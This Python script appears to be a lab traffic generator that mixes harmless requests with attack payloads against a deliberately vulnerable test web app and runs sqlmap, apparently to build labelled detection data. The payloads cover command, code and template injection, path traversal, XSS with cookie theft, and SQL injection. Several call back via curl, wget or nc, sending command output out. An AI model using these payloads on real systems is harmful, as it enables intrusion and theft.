"""Who visits and attacks the laboratory's pages: harmless visits, payloads of our own, sqlmap."""
import base64
import concurrent.futures
import http.client
import json
import os
import pathlib
import re
import socket
import subprocess
import threading
import time
import urllib.parse
import zlib

CALL_PORT, NAME_PORT = 9100, 53
AGENTS = ["Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0", "curl/7.88.1",
          "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36"]
BENIGN_SHARE = 0.27
SQLMAP_SECONDS = 50


# Where the victim calls back: anything that arrives is written down with the token it brings.

def tokens_note(data, called):
    called.extend(re.findall(r"tk[a-z0-9]{10}", data.decode("latin-1").lower()))


def call_serve(peer, called):
    with peer:
        peer.settimeout(2)
        try:
            tokens_note(peer.recv(4096), called)
            peer.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: 3\r\n\r\nok\n")
        except OSError:
            pass


def listeners_start(address, called):
    stream = socket.create_server((address, CALL_PORT))
    names = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    names.bind((address, NAME_PORT))

    def accept():
        while True:
            threading.Thread(target=call_serve, args=(stream.accept()[0], called), daemon=True).start()

    def resolve():
        while True:
            question, peer = names.recvfrom(2048)
            tokens_note(question, called)
            if len(question) > 12:  # no such name
                names.sendto(question[:2] + b"\x81\x83" + question[4:6] + b"\0\0\0\0\0\0" + question[12:], peer)

    for work in (accept, resolve):
        threading.Thread(target=work, daemon=True).start()


# Payloads. Each returns text; `token` is in what calls back.

def shell_command(chance, token, here):
    """A command, as harmless as an attacker's first ones are."""
    one, two = chance.randint(120, 9999), chance.randint(120, 9999)
    word = "".join(chance.choices("abcdefghkmnprstuvwxyz", k=8))
    plain = ["id", "uname -a", "cat /etc/passwd", "ls -la /", "ls /etc", "whoami", "cat /etc/os-release", "ps", "hostname",
             "head -n 3 /etc/passwd", "cat /proc/version", "df", "env", "pwd", "tail -2 /etc/group", "wc -c /etc/passwd"]
    hidden = ["c''at /et?/pas?wd", "cat${IFS}/etc/passwd", "/bin/c[a]t /etc/group", f"echo $(({one}*{two}))", f"expr {one} \\* {two}",
              f"printf %s {word} | md5sum", f"echo {word} | rev", f"echo {base64.b64encode(f'echo $(({one}+{two}))'.encode()).decode()} | base64 -d | sh",
              "$(printf '\\151\\144')", f"a={one}; echo $((a+{two}))x", f"seq 3 | tr '\\n' '-'; echo {word} | tr a-y b-z", "{ id; }",
              f"test -f /etc/passwd && echo {word} | sha256sum"]
    calls = [f"curl -s http://{here}:{CALL_PORT}/{token}", f"wget -q -O- http://{here}:{CALL_PORT}/{token}/x.sh",
             f"busybox wget -q -O /dev/null http://{here}:{CALL_PORT}/{token}", f"echo {token} | busybox nc -w 1 {here} {CALL_PORT}",
             f"busybox nslookup {token}.dns.example {here}", f"curl -s http://{token}.call.example/",
             f"curl -s http://{here}:{CALL_PORT}/{token}?d=$(id|base64 -w0)", f"wget http://{here}:{CALL_PORT}/{token} -O /dev/null"]
    waits = ["sleep 2", "sleep 3", "sleep 2.5"]
    return chance.choice(chance.choices([plain, hidden, calls, waits, ["nosuchtool", "dir", "type C:\\boot.ini", "ipconfig /all"]],
                                        [38, 25, 20, 11, 6])[0])


def shell_payload(chance, token, here):
    command = shell_command(chance, token, here)
    start = chance.choice(["web1", "db2", "x", "", "127.0.0.1"])
    frame = chance.choice(["{s};{c}", "{s};{c};", "{s} | {c}", "{s} && {c}", "{s} || {c}", "{s}$({c})", "{s}`{c}`", "{s}\n{c}", "{s}&{c}", "{s};{c} #",
                           "{s}\";{c};\"", "{s}';{c};'", "{s}\"$({c})\"", "{s}'|{c} #", "{s};{c} 2>&1", "{s};({c})"])
    return frame.format(s=start, c=command)


def php_payload(chance, token, here):
    one, two = chance.randint(120, 9999), chance.randint(120, 9999)
    word = "".join(chance.choices("abcdefghkmnprstuvwxyz", k=8))
    return chance.choice([f"{one}*{two};phpinfo(INFO_GENERAL)", "system('id')", "print(shell_exec('uname -a'))", f"print(md5('{word}'))",
                          f"strrev('{word}')", "file_get_contents('/etc/passwd')", "`id`", "phpversion()", "print_r(scandir('/'),true)",
                          "1;system('cat /etc/group');", "sleep(2)", f"file_get_contents('http://{here}:{CALL_PORT}/{token}')",
                          "1));phpinfo();((1", "php_uname()", f"exec('curl -s http://{here}:{CALL_PORT}/{token}')",
                          f"sha1('{word}')", f"str_repeat('{word[:3]}',4)", "passthru('head -1 /etc/passwd')", "base64_encode(system('whoami'))",
                          f"eval(base64_decode('{base64.b64encode(f'print(md5({one}));'.encode()).decode()}'))"])


def js_payload(chance, token, here):
    one, two = chance.randint(120, 9999), chance.randint(120, 9999)
    word = "".join(chance.choices("abcdefghkmnprstuvwxyz", k=8))
    return chance.choice(["require('child_process').execSync('id')", "require('child_process').execSync('cat /etc/passwd').toString()",
                          "process.version", "process.cwd()", "require('fs').readFileSync('/etc/passwd','utf8')", "require('os').hostname()",
                          "require('child_process').execSync('sleep 2')", f"require('child_process').execSync('curl -s http://{here}:{CALL_PORT}/{token}')",
                          f"'{word}'.split('').reverse().join('')", f"{one}*{two}+process.pid*0", "Object.keys(process.env).join()",
                          "global.process.mainModule.require('child_process').execSync('uname -a').toString()",
                          "(()=>{const e=Date.now();while(Date.now()-e<2000);return 1})()", "1;}require('fs')//", "process.platform+process.arch"])


def template_payload(chance, token, here):
    expression = f"{chance.randint(120, 9999)}*{chance.randint(120, 9999)}" if chance.random() < 0.4 else \
        js_payload(chance, token, here).replace("}", " ").replace("{", " ")
    return chance.choice(["${%s}", "{{%s}}", "<%%= %s %%>", "#{%s}", "*{%s}", "x${%s}y", "{{ %s }}"]) % expression


def file_payload(chance, _token, _here):
    target = chance.choice(["etc/passwd", "etc/hosts", "etc/group", "etc/os-release", "proc/version", "proc/self/environ", "etc/shadow", "windows/win.ini"])
    return chance.choice(["/{t}", "../../../../../../{t}", "../../../../../../../../../../{t}", "....//....//....//....//....//....//{t}",
                          "..%2f..%2f..%2f..%2f..%2f{t}", "file:///{t}", "php://filter/convert.base64-encode/resource=/{t}",
                          "../../../../../../{t}\0.txt", "..\\..\\..\\{t}", "php://filter/read=string.rot13/resource=/{t}"]).format(t=target)


def markup_payload(chance, _token, _here):
    number = chance.randint(1000, 99999)
    run = chance.choice([f"alert({number})", f"confirm('{number}')", "alert(document.domain)", f"fetch('//x{number}.example/'+document.cookie)"])
    return chance.choice(["<script>{r}</script>", "<img src=x onerror={r}>", "<svg/onload={r}>", "\"><script>{r}</script>", "\" autofocus onfocus={r} x=\"",
                          "\";{r};//", "</script><script>{r}</script>", "--><img src=x onerror={r}>", "<ScRiPt >{r}</sCrIpT>", "<scr<script>ipt>{r}</scr</script>ipt>",
                          "javascript:{r}", "<details open ontoggle={r}>", "<iframe src=\"javascript:{r}\">", "'-{r}-'", "<b onmouseover={r}>hello</b>"]).format(r=run)


def sql_payload(chance, _token, _here):
    one, two = chance.randint(120, 9999), chance.randint(120, 9999)
    quote = chance.choice(["", "'", "'", "1", "1", "Teapot'", "ito'"])
    tail = chance.choice([" -- -", "#", "-- x", " /*"]) if "'" in quote else chance.choice(["", " -- -"])
    body = chance.choice([f" OR {one}={one}", f" AND {one}={two}", f" UNION SELECT {one}*{two},'a','b'", f" UNION SELECT NULL,concat('q',{one}*{two},'z'),NULL",
                          " UNION SELECT login,secret,1 FROM accounts", f" AND extractvalue(1,concat(0x7e,{one}*{two}))", " AND sleep(2)", " UNION SELECT 1,version(),3",
                          " AND 1=(SELECT 1 FROM pg_sleep(2))", f" AND 1=CAST('~'||({one}*{two}) AS int)", f" UNION SELECT {one}||'x'||{two},name,sql FROM sqlite_master",
                          " UNION SELECT owner,secret,3 FROM keys", " ORDER BY 9", " or 'a'='a", ";SELECT 1", f" UNION ALL SELECT {one},table_name,3 FROM information_schema.tables"])
    return (quote or "-1") + body + tail


# Harmless input, some of it looking like more.

HOSTS = ["web1", "web2.example.org", "mail.example.org", "db7", "intranet", "printer-3", "web-test.example.net"]
NAMES = ["Hanako", "O'Brien", "Jos\u00e9", "Mary & Anne", "5 < 6", "Rock; Paper", "select committee", "drop in", "union <3", "C:\\notes"]


def harmless(kind, chance):
    return {"shell": lambda: chance.choice(HOSTS), "console": lambda: "", "code": lambda: f"{chance.randint(1, 99)}*{chance.randint(1, 99)}+1",
            "template": lambda: chance.choice(NAMES), "file": lambda: chance.choice(["welcome.txt", "hours.txt", "menu.txt", "lost.txt"]),
            "markup": lambda: chance.choice(NAMES), "sql": lambda: str(chance.randint(1, 7)),
            "named": lambda: chance.choice(["Teapot", "Inkstone", "Kettle", "ito", "mori", "Wind chime"])}[kind]()


# Pages: path, kind of attack, harmless kind, where the input goes (a parameter, "header:…", "cookie:…", "json:…", "form:…").

def pages_of(part, postgres):
    if part == "php":
        goods = ["shown", "silent", "yesno", "api", "prepared", "cast", "guarded"]
        pages = [(f"/lookup/{v}", "shell", "shell", "form:host" if v in ("list", "first") else "host") for v in
                 ("plain", "silent", "checked", "escaped", "echoing", "failing", "list", "first", "guarded", "slow", "quoted", "double")]
        pages += [(f"/sum/{v}", "php", "code", "form:sum") for v in ("shown", "value", "silent", "checked")]
        pages += [(f"/notes/{v}", "file", "file", "note") for v in ("open", "framed", "based", "cleaned", "suffixed", "silent", "guarded")]
        pages += [(f"/greet/{v}", "markup", "markup", "cookie:name" if v == "cookie" else "name") for v in
                  ("raw", "escaped", "stripped", "halved", "encoded", "attribute", "script", "comment", "typed", "cookie")]
        pages += [(f"/console/{v}", "console", "console", "form:c") for v in ("open", "gone", "silent", "coded")]
        pages += [(f"/goods/{v}", "sql", "sql", "id") for v in goods] + [("/goods/named", "sql", "named", "name"), ("/goods/listed", "sql", "named", "name"),
                  ("/goods/tracked", "sql", "sql", "cookie:seen"), ("/goods/agent", "sql", "named", "header:User-Agent")]
        return pages + [(f"/goods/{v}_pg", "sql", "sql", "id") for v in goods[:5] if postgres]
    if part == "node":
        pages = [(f"/resolve/{v}", "shell", "shell", "json:host" if v != "lines" else "host") for v in
                 ("shown", "lines", "silent", "echoing", "failing", "double", "checked", "direct")]
        pages += [(f"/calculate/{v}", "js", "code", "json:sum") for v in ("shown", "number", "silent", "checked")]
        pages += [(f"/render/{v}", "template", "template", "name") for v in ("dollar", "braces", "silent", "data")]
        return pages + [(f"/download/{v}", "file", "file", "file") for v in ("plain", "based")]
    if part == "python":
        pages = [(f"/members/{v}", "sql", "named", "q" if v != "open" else "form:q") for v in ("open", "count", "silent", "prepared", "quiet")]
        return pages + [(f"/status/{v}", "shell", "shell", "header:X-Forwarded-For" if v in ("forwarded", "silent") else "q") for v in
                        ("text", "joined", "silent", "argument", "forwarded")]
    return [(f"/cgi-bin/trace/{v}", "shell", "shell", {"agent": "header:User-Agent", "header": "header:X-Forwarded-For"}.get(v, "target"))
            for v in ("open", "silent", "agent", "header", "literal", "echoing")]


PAYLOADS = {"shell": shell_payload, "console": shell_command, "php": php_payload, "js": js_payload, "template": template_payload,
            "file": file_payload, "markup": markup_payload, "sql": sql_payload}
CLASSES = {"shell": "command_injection", "console": "web_shell", "php": "code_injection", "js": "code_injection", "template": "template_injection",
           "file": "file_inclusion", "markup": "cross_site_scripting", "sql": "sql_injection"}


class Driver:
    """One client after another, at one part's pages."""

    def __init__(self, part, address, port, here, chance, postgres):
        self.part, self.address, self.port, self.here, self.chance = part, address, port, here, chance
        self.pages = pages_of(part, postgres)
        self.connection, self.index = None, 0
        self.next_port = 10000 + (port % 10) * 4000  # each its own, so that no port is used twice

    def request_parts(self, page, where, value):
        """Method, target, body, headers of one request."""
        headers = {"User-Agent": self.chance.choice(AGENTS), "Accept": "*/*"}
        if self.chance.random() < 0.5:
            headers["Accept-Encoding"] = "gzip"
        kind, _, name = where.rpartition(":")
        if kind == "header":
            headers[name] = re.sub(r"[\r\n\0]", " ", value).encode("utf-8").decode("latin-1")
            return "GET", page, None, headers
        if kind == "cookie":
            headers["Cookie"] = f"{name}={urllib.parse.quote(value)}; theme=light"
            return "GET", page, None, headers
        if kind == "json":
            headers["Content-Type"] = "application/json"
            return "POST", page, json.dumps({name: value, "locale": "ja"}), headers
        quoted = urllib.parse.quote(value, safe=self.chance.choice(["", "/;()'", "/"]))
        if kind == "form":
            headers["Content-Type"] = "application/x-www-form-urlencoded"
            return "POST", page, f"{name}={quoted.replace('%20', '+')}", headers
        return "GET", f"{page}?{name}={quoted}", None, headers

    def send(self, method, target, body, headers):
        """Key of the request, time and the answer's text."""
        if self.connection is None or self.connection.sock is None or self.chance.random() < 0.3:
            if self.connection:
                self.connection.close()
            self.connection = http.client.HTTPConnection(self.address, self.port, 30, (self.here, self.next_port))
            self.next_port += 1
            self.index = 0
            self.connection.connect()
        if self.chance.random() < 0.1:
            headers["Connection"] = "close"
        key = f"{self.port} {self.connection.sock.getsockname()[1]} {self.index}"
        start = time.time()
        self.connection.request(method, target, body, headers)
        try:
            response = self.connection.getresponse()
            answer = response.read()
            if response.getheader("Content-Encoding") == "gzip":
                answer = zlib.decompress(answer, 31)
        except (OSError, http.client.HTTPException):
            answer = b""
            self.connection.close()
        self.index += 1
        if self.connection.sock is None or "close" in headers.get("Connection", ""):
            self.connection.close()
            self.connection = None
        return key, start, answer.decode("utf-8", "replace")

    def one(self, benign):
        page, kind, plain, where = self.chance.choice(self.pages)
        token = "tk" + "".join(self.chance.choices("abcdefghijkmnpqrstuvwxyz23456789", k=10))
        if benign and (kind == "console" or self.chance.random() < 0.1):
            page, where, value = "/", "q", ""
        else:
            value = harmless(plain, self.chance) if benign else PAYLOADS[kind](self.chance, token, self.here)
        if kind == "console" and page.endswith("coded"):
            value = base64.b64encode(value.encode()).decode()
        method, target, body, headers = ("GET", "/", None, {"User-Agent": AGENTS[0]}) if page == "/" else self.request_parts(page, where, value)
        key, start, answer = self.send(method, target, body, headers)
        return {"key": key, "time": start, "page": page.lstrip("/"), "class": CLASSES[kind], "benign": benign, "token": token,
                "input": value, "answer": answer}

    def drive(self, count):
        notes = []
        for number in range(count):  # every page's harmless face first, then as it comes
            benign = number < count // 12 or self.chance.random() < BENIGN_SHARE - 0.06
            notes.append(self.one(benign))
        return notes


def sqlmap_targets(ports, postgres):
    base = f"http://{{address}}:{ports['php']}/goods/"
    targets = [(base + "shown?id=1", []), (base + "api?id=2", ["--technique=BUT"]), (base + "yesno?id=1", ["--technique=BT"]),
               (base + "prepared?id=1", []), (base + "silent?id=3", ["--technique=T"]), (base + "named?name=Teapot", ["--technique=EU"]),
               (base + "cast?id=2", []), (base + "tracked", ["--cookie=seen=1", "--level=2", "-p", "seen", "--technique=BEU"]),
               (base + "guarded?id=1", ["--technique=BEU"])]
    if postgres:
        targets += [(base + "shown_pg?id=1", []), (base + "yesno_pg?id=1", ["--technique=B"]), (base + "prepared_pg?id=1", ["--technique=BEU"])]
    return targets


def sqlmap_run(target, more, log_path, scratch):
    command = ["sqlmap", "--batch", "--flush-session", "--time-sec=2", "--disable-coloring", "--current-user", "--banner",
               f"--output-dir={scratch}/sqlmap", "-u", target, *more]
    with open(log_path, "ab") as log:
        try:
            subprocess.run(command, stdin=subprocess.DEVNULL, stdout=log, stderr=log, timeout=SQLMAP_SECONDS, check=False,
                           env={**os.environ, "HOME": str(scratch)})
        except subprocess.TimeoutExpired:
            log.write(f"(stopped after {SQLMAP_SECONDS} s)\n".encode())


def sqlmap_runs(address, ports, scratch, options, postgres):
    """sqlmap as it comes, against vulnerable, blind and sound pages, two at a time; what it says goes
    to DIR/sqlmap.log."""
    with concurrent.futures.ThreadPoolExecutor(2) as pool:
        for target, more in sqlmap_targets(ports, postgres):
            pool.submit(sqlmap_run, target.format(address=address), more, pathlib.Path(options.out) / "sqlmap.log", scratch)
